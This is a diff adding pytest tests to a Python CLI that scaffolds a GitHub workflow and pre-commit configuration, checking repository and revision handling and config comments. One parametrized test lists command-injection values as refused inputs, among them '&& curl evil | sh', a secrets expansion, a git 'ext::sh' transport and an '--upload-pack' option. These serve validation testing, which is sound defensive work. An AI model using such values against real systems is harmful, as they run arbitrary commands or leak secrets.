@@ -3,20 +3,25 @@ hostile target with exit 2."""
 
 from __future__ import annotations
 
+import importlib.metadata
 import json
 import os
 import re
 from datetime import date
 from pathlib import Path
+from typing import Any
 
 import pytest
+import yaml
 from click.testing import CliRunner, Result
 
 from svcascode.cli import main
+from svcascode.commands import init as init_command
 from svcascode.commands.init import scaffold
 from git_helpers import Repo, run as run_process
 
-LIBRARY = Path(__file__).parent.parent / "svcascode" / "library"
+REPO = Path(__file__).parent.parent
+LIBRARY = REPO / "svcascode" / "library"
 CONTROL_IDS = sorted(p.stem for p in (LIBRARY / "controls").glob("*.yaml"))
 SLA = "services/service-levels/example-service-sla.yaml"
 
@@ -137,3 +142,85 @@ def test_a_symlink_is_exit_2(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) ->
     result = CliRunner().invoke(main, ["init", "target"])
     assert result.exit_code == 2 and "symbolic link" in result.stderr
     assert list((tmp_path / "elsewhere").iterdir()) == [] and list((tmp_path / "real").iterdir()) == []
+
+
+# ---------------------------------------------------------------------------------------------------
+# The workflow and pre-commit install svcascode as the README says adopters do
+
+
+def _tooling(folder: Path) -> tuple[dict[str, Any], dict[str, Any]]:
+    workflow = yaml.safe_load((folder / ".github/workflows/svcascode.yml").read_text())
+    install = next(s for s in workflow["jobs"]["check"]["steps"] if s.get("name") == "Install svcascode")
+    return install, yaml.safe_load((folder / ".pre-commit-config.yaml").read_text())
+
+
+def test_workflow_and_hooks_come_from_the_repository_named(empty: Path) -> None:
+    result = invoke("init", "--repository", "https://github.com/acme/svcascode", "--rev", "v1.2.0")
+    assert result.exit_code == 0 and "placeholder" not in result.stdout
+    install, precommit = _tooling(empty)
+    assert install["env"] == {"SVCASCODE_REPOSITORY": "https://github.com/acme/svcascode", "SVCASCODE_REV": "v1.2.0"}
+    assert '"git+$SVCASCODE_REPOSITORY@$SVCASCODE_REV"' in install["run"]
+    assert "==" not in install["run"]  # no package index has svcascode
+    # the repository's hooks, as the README recommends, not local ones
+    [entry] = precommit["repos"]
+    assert (entry["repo"], entry["rev"]) == ("https://github.com/acme/svcascode", "v1.2.0")
+    hooks = yaml.safe_load((REPO / ".pre-commit-hooks.yaml").read_text())
+    assert [h["id"] for h in entry["hooks"]] == [h["id"] for h in hooks] == ["svcascode-validate", "svcascode-check"]
+
+
+def test_without_a_repository_the_placeholders_are_said(empty: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(init_command, "installed_source", lambda: None)  # installed from a local checkout
+    result = invoke("init")
+    assert result.exit_code == 0
+    assert ("note: .github/workflows/svcascode.yml and .pre-commit-config.yaml install svcascode from "
+            "https://github.com/<owner>/svcascode at <tag>, placeholders") in result.stdout
+    install, precommit = _tooling(empty)
+    assert install["env"]["SVCASCODE_REPOSITORY"] == precommit["repos"][0]["repo"] == \
+        "https://github.com/<owner>/svcascode"
+    text = (empty / ".github/workflows/svcascode.yml").read_text()
+    assert "# Repository and rev: placeholders, to replace with your fork or mirror" in text
+
+
+def test_by_default_the_repository_svcascode_was_installed_from(empty: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    direct_url = {"url": "https://git.example.com/tools/svcascode.git",
+                  "vcs_info": {"vcs": "git", "commit_id": "0123456789abcdef0123456789abcdef01234567",
+                               "requested_revision": "v0.1.0"}}
+
+    class Installed:
+        def read_text(self, name: str) -> str | None:
+            return json.dumps(direct_url) if name == "direct_url.json" else None
+
+    monkeypatch.setattr(importlib.metadata, "distribution", lambda name: Installed())
+    assert invoke("init").exit_code == 0
+    install, precommit = _tooling(empty)
+    assert install["env"] == {"SVCASCODE_REPOSITORY": "https://git.example.com/tools/svcascode.git",
+                              "SVCASCODE_REV": "0123456789abcdef0123456789abcdef01234567"}
+    assert precommit["repos"][0]["rev"] == "0123456789abcdef0123456789abcdef01234567"
+    assert "# Repository and rev: those this svcascode was installed from." in \
+        (empty / ".pre-commit-config.yaml").read_text()
+
+
+@pytest.mark.parametrize("option", [
+    ("--repository", "https://example.com/x\" && curl evil | sh #"),
+    ("--repository", "https://example.com/${{ secrets.TOKEN }}"),
+    ("--repository", "ext::sh -c touch% /tmp/pwned"),
+    ("--rev", "--upload-pack=touch /tmp/pwned"),
+    ("--rev", "v1 $(id)"),
+])
+def test_a_source_that_could_run_or_expand_is_refused(empty: Path, option: tuple[str, str]) -> None:
+    result = CliRunner().invoke(main, ["init", "--repository", "https://github.com/acme/svcascode", *option])
+    assert result.exit_code == 2 and option[0] in result.stderr
+    assert list(empty.iterdir()) == []
+
+
+def test_config_comments_are_true(empty: Path) -> None:
+    invoke("init")
+    config = (empty / ".svcascode.yaml").read_text()
+    assert ".svcascode-cache" not in config  # the cache lives outside the repository
+    assert "outside the repository" in config and "~/.cache/svcascode" in config
+    readme = (REPO / "README.md").read_text()
+    block = readme[readme.index("## Configuration"):].split("```yaml\n", 1)[1].split("```", 1)[0]
+    documented = {line.split(":")[0] for line in block.splitlines() if line and not line.startswith(" ")}
+    assert documented, "the README's configuration block"
+    for setting in documented:  # every top-level setting the README documents, commented with its default
+        assert f"# {setting}:" in config, setting
